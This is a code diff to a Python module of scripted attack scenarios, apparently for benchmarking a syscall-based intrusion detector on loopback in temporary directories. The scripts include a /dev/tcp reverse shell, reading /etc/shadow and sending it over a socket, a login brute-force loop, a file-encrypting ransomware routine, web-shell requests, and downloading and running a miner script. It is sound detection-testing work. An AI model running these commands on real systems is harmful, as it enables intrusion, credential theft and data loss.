@@ -2,7 +2,10 @@
 throwaway directory, loopback only, and recorded with the foundation's tracer (syscalls).
 
 Each scenario is a bash script; {dir} is its private temp dir, {py} this Python, {port} a free
-loopback port and {n} a per-repetition size, so repetitions differ a little."""
+loopback port and {n} a per-repetition size, so repetitions differ a little. An attack's {step}
+stands before its first real step (what comes before it is set-up: a listener that plays the
+attacker's host, files to encrypt, a server to plant a web shell in): the live bench has it note
+the time there with a bash builtin (run.STEP), so latency counts from the attack, not its set-up."""
 from __future__ import annotations
 
 from dataclasses import dataclass
@@ -127,7 +130,7 @@ try:
     while c.recv(4096): pass
 except OSError: pass
 " &
-""" + _LISTEN_UP + r"""bash -c 'bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1' 2>/dev/null
+""" + _LISTEN_UP + r"""{step}bash -c 'bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1' 2>/dev/null
 wait
 """),
     Scenario("read_shadow", "attack", r"""cd {dir}
@@ -136,13 +139,13 @@ import socket; s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_RE
 s.bind(('127.0.0.1', {port})); s.listen(1); c, _ = s.accept()
 while c.recv(4096): pass
 " &
-cat /etc/shadow /etc/passwd > loot 2>/dev/null; grep -h ':\$' /etc/shadow > hashes 2>/dev/null
+{step}cat /etc/shadow /etc/passwd > loot 2>/dev/null; grep -h ':\$' /etc/shadow > hashes 2>/dev/null
 ls -la /root/.ssh 2>/dev/null; base64 loot > loot.b64
 """ + _LISTEN_UP + r"""bash -c 'cat loot.b64 > /dev/tcp/127.0.0.1/{port}'
 wait
 """, needs_root=True),
     Scenario("useradd_ns", "attack", r"""cd {dir} && mkdir -p etc && cp -a /etc/passwd /etc/shadow /etc/group /etc/gshadow /etc/login.defs etc/ 2>/dev/null
-unshare --mount --propagation private bash -c 'set -e; mount --bind {dir}/etc {dir}/etc
+{step}unshare --mount --propagation private bash -c 'set -e; mount --bind {dir}/etc {dir}/etc
 useradd --prefix {dir} -M -s /bin/bash kpevil{n}; grep -q kpevil{n} {dir}/etc/passwd'
 """, needs_root=True),
     Scenario("brute_force", "attack", r"""cd {dir}
@@ -154,12 +157,12 @@ for _ in range(60):
     ok = hashlib.sha256(line.encode()).hexdigest() == '0' * 64
     c.sendall(b'OK\n' if ok else b'FAIL\n'); c.close()
 " &
-""" + _LISTEN_UP + r"""for p in $(seq 60); do exec 3<>/dev/tcp/127.0.0.1/{port} || break; echo "root:pass$p" >&3; read -r r <&3; exec 3>&-; done
+""" + _LISTEN_UP + r"""{step}for p in $(seq 60); do exec 3<>/dev/tcp/127.0.0.1/{port} || break; echo "root:pass$p" >&3; read -r r <&3; exec 3>&-; done
 wait
 """),
     Scenario("ransomware", "attack", r"""cd {dir} && mkdir -p docs
 for i in $(seq $(({n} * 15))); do head -c 3000 /dev/urandom > docs/doc$i.txt; done
-{py} -c "
+{step}{py} -c "
 import os
 key = os.urandom(32)
 for root, _, files in os.walk('docs'):
@@ -178,13 +181,13 @@ chmod +x cgi-bin/sh.cgi
 import http.server, sys
 http.server.test(HandlerClass=http.server.CGIHTTPRequestHandler, bind='127.0.0.1', port={port})
 " >/dev/null 2>&1 &
-""" + _HTTP_UP + r"""curl -s http://127.0.0.1:{port}/cgi-bin/sh.cgi >/dev/null; curl -s http://127.0.0.1:{port}/cgi-bin/sh.cgi >/dev/null
+""" + _HTTP_UP + r"""{step}curl -s http://127.0.0.1:{port}/cgi-bin/sh.cgi >/dev/null; curl -s http://127.0.0.1:{port}/cgi-bin/sh.cgi >/dev/null
 kill %1; wait
 """),
     Scenario("miner", "attack", r"""cd {dir} && mkdir -p srv
 printf 'import hashlib, time\nt = time.time(); h = b"x"\nwhile time.time() - t < 1.0:\n    h = hashlib.sha256(h).digest()\n' > srv/m.py
 {py} -m http.server --bind 127.0.0.1 {port} -d srv >/dev/null 2>&1 &
-""" + _HTTP_UP + r"""curl -s http://127.0.0.1:{port}/m.py -o /tmp/.kp_m_{port}.py; kill %1; wait
+""" + _HTTP_UP + r"""{step}curl -s http://127.0.0.1:{port}/m.py -o /tmp/.kp_m_{port}.py; kill %1; wait
 {py} /tmp/.kp_m_{port}.py; rm -f /tmp/.kp_m_{port}.py
 """),
 ]
